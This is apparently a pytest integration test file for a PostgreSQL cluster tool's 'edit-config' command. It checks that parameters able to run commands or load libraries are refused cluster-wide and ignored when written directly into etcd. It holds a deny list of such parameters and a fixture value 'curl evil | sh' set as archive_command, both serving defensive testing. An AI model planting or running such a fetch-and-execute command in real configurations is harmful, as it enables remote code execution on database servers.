"""`pgwarden ctl edit-config` cannot put a parameter that runs a command or loads code into the
cluster settings (one line naming the node file key to use, nothing written), and such a parameter
written straight into etcd never takes effect while the rest of the document does."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
import urllib3

from pgwarden.config.schema import ClusterSettings, SyncMode
from pgwarden.core.settings import NODE_ONLY_PARAMETERS
from pgwarden.store.cluster import ClusterStore as Store
from tests.cli.helpers import TIMEOUT, run_cli
from tests.support.etcd import EtcdServer

pytestmark = pytest.mark.integration

DANGEROUS = sorted({*NODE_ONLY_PARAMETERS, "archive_command", "restore_command", "archive_cleanup_command",
                    "recovery_end_command", "ssl_passphrase_command", "shared_preload_libraries",
                    "local_preload_libraries", "session_preload_libraries", "dynamic_library_path",
                    "my_ext.notify_command", "Archive_Command"})


def test_edit_config_refuses_node_only_parameters(node_file: Path, store: Store) -> None:
    assert store.set_settings(ClusterSettings(ttl=6), None, TIMEOUT)
    token = store.snapshot(TIMEOUT).settings_token
    for name in DANGEROUS:
        for key in (f"parameters.{name}", f"postgresql.parameters.{name}"):
            r = run_cli("ctl", "-c", str(node_file), "edit-config", "--set", "ttl=8", "--set", f"{key}=x")
            assert (r.code, r.out) == (2, ""), (key, r.err)
            lines = r.err.strip().splitlines()
            assert len(lines) == 1 and lines[0].startswith("pgwarden: error: "), r.err
            assert f"parameters.{name} runs a command or loads code" in lines[0]
            assert "set it in each node's own file under postgresql.parameters" in lines[0]
    view = store.snapshot(TIMEOUT)
    assert view.settings_token == token and view.settings == ClusterSettings(ttl=6)  # nothing written


def test_a_stored_node_only_parameter_never_takes_effect(cluster: str, etcd: EtcdServer, store: Store,
                                                         ) -> None:
    doc = {"synchronous_mode": "on", "ttl": 6,
           "parameters": {"archive_command": "curl evil | sh", "work_mem": "8MB"}}
    key = base64.b64encode(f"/pgwarden/{cluster}/config".encode()).decode()
    value = base64.b64encode(json.dumps(doc).encode()).decode()
    r = urllib3.request("POST", f"http://{etcd.endpoint}/v3/kv/put", json={"key": key, "value": value})
    assert r.status == 200, r.data
    s = store.snapshot(TIMEOUT).settings
    assert (s.synchronous_mode, s.ttl, s.parameters) == (SyncMode.ON, 6.0, {"work_mem": "8MB"})


@pytest.mark.parametrize(("assignment", "line"), [
    ("parameters.max_connections=lots",
     "parameters.max_connections: 'lots' is refused: expected a number without a unit"),
    ("parameters.max_connections=0",
     "parameters.max_connections: '0' is refused: 0 is outside the range 1 .. "),
    ("parameters.wal_level=physical", "expected one of minimal, replica, logical"),
    ("parameters.work_mem=8 parsecs", "unknown unit 'parsecs'"),
    ("parameters.no_such_thing=1", "PostgreSQL has no parameter 'no_such_thing'"),
])
def test_edit_config_refuses_values_postgresql_would_refuse(pg_node_file: Path, store: Store,
                                                            assignment: str, line: str) -> None:
    """Checked against a running member's pg_settings; nothing is written."""
    assert store.set_settings(ClusterSettings(ttl=6), None, TIMEOUT)
    token = store.snapshot(TIMEOUT).settings_token
    r = run_cli("ctl", "-c", str(pg_node_file), "edit-config", "--set", "ttl=8", "--set", assignment)
    assert (r.code, r.out) == (2, ""), r.err
    (only,) = r.err.strip().splitlines()
    assert only.startswith("pgwarden: error: ") and line in only
    view = store.snapshot(TIMEOUT)
    assert view.settings_token == token and view.settings == ClusterSettings(ttl=6)


def test_edit_config_takes_good_values_and_needs_no_server_to_remove_one(
        pg_node_file: Path, node_file: Path, store: Store) -> None:
    r = run_cli("ctl", "-c", str(pg_node_file), "edit-config", "--set", "parameters.max_connections=200",
                "--set", "parameters.shared_buffers=256MB", "--set", "parameters.hot_standby=on")
    assert r.code == 0, r.err
    assert store.snapshot(TIMEOUT).settings.parameters == {
        "max_connections": "200", "shared_buffers": "256MB", "hot_standby": "on"}
    # node_file's PostgreSQL (port 5432) does not run: removing a value needs no check ...
    r = run_cli("ctl", "-c", str(node_file), "edit-config", "--set", "parameters.hot_standby=")
    assert r.code == 0, r.err
    # ... while adding one cannot be checked, and says so.
    r = run_cli("ctl", "-c", str(node_file), "edit-config", "--set", "parameters.work_mem=8MB")
    assert r.code == 1 and "no member's PostgreSQL answered (127.0.0.1:5432" in r.err
    assert "work_mem" not in store.snapshot(TIMEOUT).settings.parameters
